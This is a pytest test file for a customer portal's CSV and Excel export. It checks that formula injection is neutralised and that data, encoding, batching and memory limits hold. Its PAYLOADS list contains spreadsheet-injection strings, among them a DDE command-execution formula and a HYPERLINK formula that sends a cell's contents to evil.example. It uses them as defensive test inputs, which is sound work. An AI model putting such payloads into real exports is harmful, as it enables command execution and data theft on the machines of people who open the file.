"""Files for spreadsheet programs: no formula, nothing lost, nothing that a program cannot open."""

import csv
import io
import tracemalloc
from datetime import datetime

import openpyxl
import pytest

from customer_portal import spreadsheets
from customer_portal.exceptions import ExportTooLong
from customer_portal.spreadsheets import comma_separated, neutral, workbook

HEAD = [f"Column {number}" for number in range(10)]
BEGINNINGS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
PAYLOADS = [
	"=1+1",
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("http://evil.example?x="&A1,"Error")',
	"+1",
	"-1+1",
	"@SUM(A1)",
	"\t=1",
	"\r=1",
	"\n=1",
	"\x00=1",
	"  =1",
	"\u00a0=1",
	"\u2028=1",
	"＝1+1",
	"x;=1",
	"x,=1",
	"x\t=1",
	"x|@SUM(A1)",
	'x"=1',
	"x'=1",
	'"=1"',
	'",=1',
	'";=1;"',
	"x\r\n=1",
	";;=1",
	"=",
]
HARMLESS = [
	"",
	"A plain subject",
	"a - b",
	"2 + 2 = 4",
	"mail@example.com",
	"12-34",
	"مرحبا",
	"a, b; c",
	'say "hi"',
]


def row(first: object) -> list:
	return [first, *[None] * (len(HEAD) - 1)]


def cells(separator: str, data: bytes) -> list[str]:
	"""As a program with this separator splits the file that has the cells."""
	text = data.decode("utf-8-sig")
	return [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in line]


def by_hand(separator: str, data: bytes) -> list[str]:
	"""As a careless program does, to which quotes mean nothing."""
	lines = data.decode("utf-8-sig").splitlines()
	return [cell.strip('"') for line in lines for cell in line.split(separator)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_begins_a_formula(payload):
	data = b"".join(comma_separated(HEAD, [[row("1"), row(payload)]], "broken"))
	for read in (cells, by_hand):
		for separator in (",", ";", "\t", "|"):
			bad = [cell for cell in read(separator, data) if cell.lstrip().startswith(BEGINNINGS)]
			assert not bad, (read.__name__, separator)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nor_in_a_workbook(payload):
	sheet = opened(workbook(HEAD, [[row(payload)]], "Tickets", False)).active
	cell = sheet["A2"]
	assert cell.data_type == "s"
	assert not str(cell.value).lstrip().startswith(BEGINNINGS)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays(text):
	assert neutral(text) == text


def opened(parts) -> openpyxl.Workbook:
	return openpyxl.load_workbook(io.BytesIO(b"".join(parts)))


def table() -> list[list]:
	moment = datetime(2026, 3, 29, 23, 59)
	return [[number, f"<subject> & “{number}”", "", None, moment, *["x"] * 5] for number in range(1200)]


def batches(size: int = 500):
	whole = table()
	return (whole[start : start + size] for start in range(0, len(whole), size))


def test_a_csv_file_says_the_same_as_its_rows():
	data = b"".join(comma_separated(HEAD, batches(), "broken"))
	assert data.startswith(b"\xef\xbb\xbf")
	assert data.count(b"\r\n") == 1201
	lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
	assert lines[0] == HEAD
	assert lines[1][:5] == ["0", "<subject> & “0”", "", "", "2026-03-29 23:59"]
	assert [int(line[0]) for line in lines[1:]] == list(range(1200))


def test_a_workbook_says_the_same_as_its_rows():
	book = opened(workbook(HEAD, batches(), "Tickets", False))
	lines = list(book.active.iter_rows(values_only=True))
	assert list(lines[0]) == HEAD
	assert [list(line) for line in lines[1:]] == [
		[None if cell == "" else cell for cell in one] for one in table()
	]
	assert book.active["E2"].number_format == spreadsheets.TIME_FORMAT
	assert book.active["A1"].font.b
	assert book.active.freeze_panes == "A2"


def test_a_workbook_from_right_to_left():
	assert opened(workbook(HEAD, [], "التذاكر", True)).active.sheet_view.rightToLeft


@pytest.mark.parametrize("title", ["a/b:c*d?[e]\\", "'x'", "", "x" * 80, "[]"])
def test_any_title(title):
	assert opened(workbook(HEAD, [], title, False)).active.max_row == 1


@pytest.mark.parametrize(
	"text", ["\x00\x01\x0b", "\ud800", "\ufffe\uffff", "]]>", "&amp;<x>", " a  b ", "x" * 32767]
)
def test_any_text(text):
	"""Every sign that neither XML nor UTF-8 can hold, and all that means something there."""
	sheet = opened(workbook(HEAD, [[row(text)]], "Tickets", False)).active
	kept = neutral(text)
	assert (sheet["A2"].value or "") == kept
	assert cells(",", b"".join(comma_separated(HEAD, [[row(text)]], "")))[len(HEAD)] == kept


def breaking():
	yield table()[:3]
	raise ExportTooLong


def test_a_broken_csv_file_says_so_in_its_last_line():
	data = b"".join(list_until_error(comma_separated(HEAD, breaking(), "Not complete")))
	assert data.decode().splitlines()[-1] == '"Not complete"'


def test_a_broken_workbook_opens_nowhere():
	data = b"".join(list_until_error(workbook(HEAD, breaking(), "Tickets", False)))
	with pytest.raises(Exception, match="not a zip file"):
		openpyxl.load_workbook(io.BytesIO(data))


def list_until_error(parts) -> list[bytes]:
	received = []
	with pytest.raises(ExportTooLong):
		for part in parts:
			received.append(part)
	return received


def test_a_sheet_holds_no_more_than_it_can():
	many = ([row(1)] * 50_000 for _batch in range(30))
	with pytest.raises(ExportTooLong):
		for _part in workbook(HEAD, many, "Tickets", False):
			pass


@pytest.mark.parametrize("make", ["workbook", "csv"])
def test_memory_holds_one_batch(make):
	"""Ten times the rows take no more."""
	peaks = [peak(make, count) for count in (4, 40)]
	assert peaks[1] <= 1.2 * peaks[0]


def peak(make: str, count: int) -> int:
	rows = ([[number, "subject " * 10, *["x"] * 8] for number in range(500)] for _batch in range(count))
	parts = workbook(HEAD, rows, "T", False) if make == "workbook" else comma_separated(HEAD, rows, "")
	tracemalloc.start()
	for _part in parts:
		pass
	most = tracemalloc.get_traced_memory()[1]
	tracemalloc.stop()
	return most
